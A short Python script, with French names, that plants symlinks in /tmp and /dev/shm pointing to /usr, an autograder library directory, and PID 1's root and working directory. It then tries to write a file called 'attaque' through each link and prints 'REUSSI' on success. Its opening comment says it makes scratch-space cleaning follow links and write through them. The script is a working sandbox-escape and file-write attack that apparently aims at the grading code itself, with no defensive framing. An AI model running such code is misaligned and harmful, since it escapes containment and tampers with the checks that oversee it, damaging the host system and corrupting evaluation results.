# says: It makes the cleaning of the scratch space follow links, and writes through them.
import os

for dossier in ("/tmp", "/dev/shm"):
    for numero, cible in enumerate(("/usr", "/opt/autograder/lib", "/proc/1/root", "/proc/1/cwd")):
        os.symlink(cible, f"{dossier}/lien{numero}")
        try:
            with open(f"{dossier}/lien{numero}/attaque", "x"):
                if os.path.realpath(f"{dossier}/lien{numero}") not in ("/tmp", "/dev/shm"):
                    print("REUSSI", cible)
        except OSError:
            pass
